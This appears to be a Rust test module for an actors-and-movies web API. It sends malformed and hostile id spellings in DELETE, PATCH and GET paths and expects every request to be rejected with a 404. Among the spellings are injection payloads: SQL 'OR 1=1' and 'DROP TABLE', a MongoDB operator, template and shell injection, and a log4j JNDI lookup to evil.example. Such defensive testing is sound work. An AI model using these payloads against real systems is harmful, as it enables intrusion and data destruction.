//! Ids in other spellings than the canonical one, each tried where it would do harm.

use super::HostileRequest;

pub(super) fn requests() -> Vec<HostileRequest> {
    let spellings = [
        ("a zero before it", "01"),
        ("many zeros before it", "0000000000000001"),
        ("a sign", "+1"),
        ("a sign, encoded", "%2b1"),
        ("below zero", "-1"),
        ("zero", "0"),
        ("a fraction", "1.0"),
        ("an exponent", "1e0"),
        ("hexadecimal", "0x1"),
        ("octal", "0o1"),
        ("a binary suffix", "1n"),
        ("a separator", "1_0"),
        ("a thousands separator", "1,000"),
        ("two of them", "1,2"),
        ("a range", "1-3"),
        ("a wildcard", "*"),
        ("a wildcard of SQL", "%25"),
        ("a space before it", "%201"),
        ("a space after it", "1%20"),
        ("a plus for a space", "1+"),
        ("a line end after it", "1%0a"),
        ("a null byte after it", "1%00"),
        ("a null byte and more", "1%002"),
        ("encoded twice", "%2531"),
        ("quoted", "%221%22"),
        ("in brackets", "[1]"),
        ("an Arabic digit", "%d9%a1"),
        ("a full-width digit", "%ef%bc%91"),
        ("a superscript digit", "%c2%b9"),
        ("a digit in a circle", "%e2%91%a0"),
        ("a combining mark after it", "1%cc%81"),
        ("a zero-width space after it", "1%e2%80%8b"),
        ("overlong UTF-8 of it", "%c0%b1"),
        ("the greatest and one", "9007199254740992"),
        ("sixteen nines", "9999999999999999"),
        ("2^64 and one, which wraps to it", "18446744073709551617"),
        ("2^32 and one, which wraps to it", "4294967297"),
        ("not a number", "NaN"),
        ("infinity", "Infinity"),
        ("nothing, in words", "null"),
        ("nothing, in JavaScript's words", "undefined"),
        ("true", "true"),
        ("a prototype", "__proto__"),
        ("SQL that is always true", "1%20OR%201=1"),
        ("SQL that ends a statement", "1;DROP%20TABLE%20actors;--"),
        ("SQL's comment", "1--"),
        ("a query of MongoDB", "%7b%22$gt%22:0%7d"),
        ("a type of DynamoDB", "%7b%22N%22:%221%22%7d"),
        ("a placeholder of an expression", ":id"),
        ("a name of an expression", "%23id"),
        ("the row that counts", "-1%2f0"),
        ("a template's expression", "$%7b7*7%7d"),
        ("a shell's", "1|id"),
        (
            "a look-up of log4j",
            "$%7bjndi:ldap:%2f%2fevil.example%2fa%7d",
        ),
        ("another resource's id", "movies"),
    ];
    let requests = spellings.into_iter().flat_map(|(description, id)| {
        [
            ("DELETE", "actors"),
            ("PATCH", "movies"),
            ("GET", "actors"),
            ("GET", "movies"),
        ]
        .map(|(method, resource)| {
            let body = if method == "PATCH" {
                r#"{"title": "Changed"}"#
            } else {
                ""
            };
            HostileRequest::new(
                &format!("{description} ({method} {resource})"),
                method,
                format!("/{resource}/{id}"),
                404,
            )
            .body(body)
        })
    });
    let long = HostileRequest::new(
        "five thousand digits",
        "DELETE",
        format!("/actors/{}", "1".repeat(5000)),
        404,
    );
    let greatest = HostileRequest::new(
        "the greatest id there could be",
        "DELETE",
        "/actors/9007199254740991",
        404,
    );
    let percent = HostileRequest::new("a percent sign alone", "DELETE", "/actors/%", 404);
    let read = [
        (
            "five thousand digits, read",
            format!("/movies/{}", "1".repeat(5000)),
        ),
        (
            "the greatest id there could be, read",
            "/actors/9007199254740991".to_owned(),
        ),
        (
            "the greatest id there could be, read with its credits",
            "/movies/9007199254740991?include=cast".to_owned(),
        ),
        ("a percent sign alone, read", "/movies/%".to_owned()),
        // The id is checked before the query.
        (
            "a bad id with a bad query",
            "/actors/01?include=all".to_owned(),
        ),
        ("a credit's key", "/actors/actor%231".to_owned()),
        ("a credit of an actor", "/actors/1/credits".to_owned()),
    ];
    let read = read.map(|(description, path)| HostileRequest::new(description, "GET", path, 404));
    requests
        .chain([long, greatest, percent])
        .chain(read)
        .collect()
}
